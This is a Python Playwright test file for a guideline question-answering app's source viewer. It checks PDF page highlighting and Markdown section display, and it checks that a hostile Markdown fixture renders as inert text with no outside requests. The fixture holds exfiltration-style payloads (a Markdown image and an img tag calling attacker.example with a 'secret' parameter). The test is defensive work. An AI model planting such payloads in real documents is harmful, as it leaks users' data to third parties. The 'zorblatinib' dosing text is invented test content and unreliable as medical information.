"""The source viewer in Debian chromium: a PDF passage on its highlighted page image, a Markdown
passage in its section, from the source cards of a served OncoGuide (nothing fetched)."""

from __future__ import annotations

import io
import os
import shutil
from pathlib import Path

from test_browser import BROWSER_TESTS, browser_page, served, settle
from viewer_docs import guideline_pdf

EVIDENCE = "Evidence: verbatim guideline sentences only (no model)"  # the Ask page's mode label

pytestmark = BROWSER_TESTS


# A guideline file an attacker prepared: every way Markdown or HTML could make the browser
# fetch something, or change how the text looks.
HOSTILE_MD = """---
title: Zorblatinib Dosing Note
---
# Zorblatinib dosing

## Dose escalation

Zorblatinib dose escalation proceeds from 40 mg to 80 mg daily when tolerated
![pixel](http://attacker.example/p.png?d=secret) <img src="http://attacker.example/i.png">
[the label](http://attacker.example/) :red[warning] **bold** `code` $x^2$ <b>bold</b>.
"""


def ask_extractive(page, question: str) -> None:  # type: ignore[no-untyped-def]
    from playwright.sync_api import expect

    page.get_by_role("textbox", name="Question").fill(question)
    page.get_by_text(EVIDENCE).click()
    page.get_by_role("button", name="Ask").click()
    idle(page)  # the previous answer stays on screen (stale) until this run has finished
    expect(page.get_by_text("Draft answer")).to_be_visible(timeout=180_000)
    expect(page.locator("#source-1")).to_be_visible(timeout=120_000)
    settle(page)


def idle(page) -> None:  # type: ignore[no-untyped-def]
    """Wait until the script run is over: no stale element left and the status widget gone,
    three checks in a row."""
    quiet = 0
    for _ in range(600):
        page.wait_for_timeout(300)
        stale = page.locator("[data-stale='true']").count()
        status = page.locator("[data-testid='stStatusWidget']")
        running = status.count() > 0 and status.first.is_visible()
        quiet = quiet + 1 if not stale and not running else 0
        if quiet == 3:
            return
    raise AssertionError("the app did not finish its run")


def card_rank(page, needle: str) -> int:  # type: ignore[no-untyped-def]
    """The rank of the first source card whose text contains ``needle``."""
    from playwright.sync_api import expect

    card = page.locator(".og-source").filter(has_text=needle).first
    expect(card).to_be_visible(timeout=60_000)
    idle(page)
    return int((card.get_attribute("id") or "").removeprefix("source-"))


def yellow_pixels(png: bytes) -> int:
    from PIL import Image

    image = Image.open(io.BytesIO(png)).convert("RGB")
    return sum(1 for r, g, b in image.getdata() if r > 200 and g > 170 and b < 200)


def test_viewer_shows_the_highlighted_pdf_page_and_the_markdown_section(
    corpus_home: Path, tmp_path: Path
) -> None:
    from playwright.sync_api import expect, sync_playwright

    from rag.assistant import Assistant
    from rag.config import load_settings

    pdf, _ = guideline_pdf(tmp_path / "colon-adjuvant.pdf")
    hostile = tmp_path / "zorblatinib.md"
    hostile.write_text(HOSTILE_MD, encoding="utf-8")
    helper = Assistant(load_settings())
    assert helper.ingest([pdf, hostile]).count("added") == 2
    helper.close()
    requests: list[str] = []

    with served(tmp_path) as port, sync_playwright() as p:
        browser, page = browser_page(p)
        page.on("request", lambda request: requests.append(request.url))
        page.goto(f"http://127.0.0.1:{port}/", timeout=120_000)
        expect(page.get_by_text("Ask the guidelines").first).to_be_visible(timeout=180_000)

        # A PDF source: its page as an image with the passage's lines highlighted.
        ask_extractive(
            page, "How long should adjuvant CAPOX be given for low-risk stage III colon cancer?"
        )
        rank = card_rank(page, "1.1 Duration of adjuvant therapy")
        page.locator("button").filter(has_text="View in document").nth(rank - 1).click()
        dialog = page.get_by_role("dialog")
        expect(dialog).to_contain_text("Page 1 of 3", timeout=60_000)
        expect(dialog).to_contain_text("Highlighted")
        image = dialog.locator("img").first
        expect(image).to_be_visible(timeout=30_000)
        assert image.evaluate("img => img.complete && img.naturalWidth") > 1000
        src = image.get_attribute("src") or ""
        assert src.startswith(("/media/", f"http://127.0.0.1:{port}/")), src
        assert yellow_pixels(image.screenshot()) > 2000  # the highlight is on screen
        page.screenshot(path=str(tmp_path / "viewer-pdf.png"))
        dialog.get_by_role("button", name="Next page ▶").click()
        expect(dialog).to_contain_text("Page 2 of 3", timeout=30_000)
        expect(dialog).to_contain_text("shown without highlight")
        dialog.get_by_label("Close").click()  # the dialog's own dismiss (x)
        expect(page.get_by_role("dialog")).to_have_count(0, timeout=30_000)

        # A Markdown source: its section as text, the passage highlighted.
        ask_extractive(page, "What is the pegfilgrastim dose and when is it given?")
        rank = card_rank(page, "Dosing and timing")
        page.locator("button").filter(has_text="View in document").nth(rank - 1).click()
        dialog = page.get_by_role("dialog")
        section = dialog.locator(".og-section")
        expect(section).to_be_visible(timeout=60_000)
        hit = section.locator(".og-hit")
        expect(hit).to_have_count(1)
        expect(hit).to_contain_text("Pegfilgrastim")
        assert section.locator("a, img, strong, em, code").count() == 0  # shown as text
        page.screenshot(path=str(tmp_path / "viewer-md.png"))
        dialog.get_by_label("Close").click()
        expect(page.get_by_role("dialog")).to_have_count(0, timeout=30_000)

        # A hostile document is shown as its characters: nothing fetched, nothing formatted.
        ask_extractive(page, "How is the zorblatinib dose escalated?")
        rank = card_rank(page, "Zorblatinib")
        # The answer panel is another component's concern; from here on, the viewer's.
        requests.clear()
        page.locator("button").filter(has_text="View in document").nth(rank - 1).click()
        section = page.get_by_role("dialog").locator(".og-section")
        expect(section).to_contain_text("Zorblatinib dose escalation", timeout=30_000)
        shown = section.inner_text().replace("\u2060", "")  # word joiners defuse ':' shortcodes
        assert "![pixel](http://attacker.example/p.png?d=secret)" in shown
        assert '<img src="http://attacker.example/i.png">' in shown
        assert ":red[warning] **bold** `code` $x^2$ <b>bold</b>" in shown
        assert section.locator("img, a, b, strong, code, span:not(.og-hit)").count() == 0
        page.wait_for_timeout(1000)
        browser.close()
    outside = [u for u in requests if not u.startswith(f"http://127.0.0.1:{port}/")]
    assert not outside, outside
    if os.environ.get("OG_SCREENSHOT_DIR"):
        for name in ("viewer-pdf.png", "viewer-md.png"):
            shutil.copy(tmp_path / name, os.environ["OG_SCREENSHOT_DIR"])
